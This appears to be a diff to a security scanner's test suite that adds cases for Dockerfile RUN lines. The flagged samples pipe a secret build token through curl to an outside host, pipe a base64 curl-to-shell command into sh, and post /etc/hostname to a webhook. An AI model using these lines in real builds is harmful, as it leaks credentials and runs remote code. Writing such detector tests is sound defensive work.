@@ -539,6 +539,25 @@ describe("build-code-behavior: direnv's .envrc", () => {
     expect(buildFinding(added('flake.nix', flake))).toBeNull();
   });
 
+  it('reads Dockerfile RUN lines for the critical shapes: a secret build argument sent out, decoded text piped into a shell; a paste host is high', () => {
+    expect(buildFinding(added('Dockerfile', 'FROM node:22-alpine\nARG NPM_TOKEN\nRUN echo "$NPM_TOKEN" | curl -s -d @- https://hooks.example-collect.net/n && npm ci'))).toMatchObject({ severity: 'critical', title: 'Dockerfile sends credentials or the environment to a host when the image is built' });
+    expect(buildFinding(added('build/app.Dockerfile', 'FROM alpine:3.20\nRUN echo "Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS9wIHwgc2g=" | base64 -d | sh'))).toMatchObject({ severity: 'critical' });
+    expect(buildFinding(added('Dockerfile', 'FROM alpine:3.20\nRUN wget -q -O /tmp/report --post-file=/etc/hostname https://webhook.site/2b7c'))).toMatchObject({ severity: 'high' });
+  });
+
+  it('is quiet on ordinary Dockerfiles: tools downloaded and run, secret mounts for the registry, unpinned fetches left to the other rules', () => {
+    const dockerfile = [
+      'FROM node:22-alpine AS build',
+      'ARG NPM_TOKEN',
+      'RUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci',
+      'RUN curl -fsSLo /usr/local/bin/kubectl https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl && chmod +x /usr/local/bin/kubectl',
+      'RUN wget -qO- https://github.com/grpc-ecosystem/grpc-health-probe/releases/latest/download/grpc_health_probe-linux-amd64 > /bin/grpc_health_probe && chmod +x /bin/grpc_health_probe',
+      'RUN echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > .npmrc && npm publish && rm .npmrc',
+      'RUN gunzip -c /tmp/data.gz > /srv/data',
+    ].join('\n');
+    expect(buildFinding(added('Dockerfile', dockerfile))).toBeNull();
+  });
+
   it('is quiet on what .envrc files hold: exports, layouts, Nix and devbox hooks, dotenv', () => {
     for (const text of [
       'use flake',
